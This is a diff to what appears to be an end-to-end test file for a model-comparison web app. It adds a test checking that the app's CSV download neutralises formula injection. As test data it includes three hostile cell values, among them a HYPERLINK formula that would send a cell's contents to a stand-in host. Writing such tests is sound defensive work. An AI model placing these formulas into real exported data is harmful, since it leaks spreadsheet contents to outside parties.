@@ -3,6 +3,8 @@ what arrived."""
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import shutil
 from pathlib import Path
@@ -165,3 +167,15 @@ def test_other_pages_open_while_a_sweep_runs_and_it_runs_on(
     for index in range(3):
         expect(compare.card(index)).to_contain_text("Stopped: what arrived is kept.")
     compare.chat.wait_idle()
+
+
+def test_the_csv_download_turns_formulas_into_text(compare: ComparePage, fake: FakeOpenAI) -> None:
+    hostile = ['=HYPERLINK("http://127.0.0.1:9/?"&A1,"see")', "+1+1", "@SUM(1)"]
+    fake.enqueue(*(Reply(text=text) for text in hostile))
+    compare.run(samples=1, at_once=1)  # one at a time: the queue's order is the grid's
+    expect(compare.card(2)).to_contain_text("finish: stop")
+    compare.chat.wait_idle()
+    with compare.page.expect_download() as download:
+        compare.page.get_by_role("button", name="Download CSV").click()
+    rows = list(csv.DictReader(io.StringIO(Path(download.value.path()).read_text(), newline="")))
+    assert [row["output"] for row in rows] == ["'" + text for text in hostile]
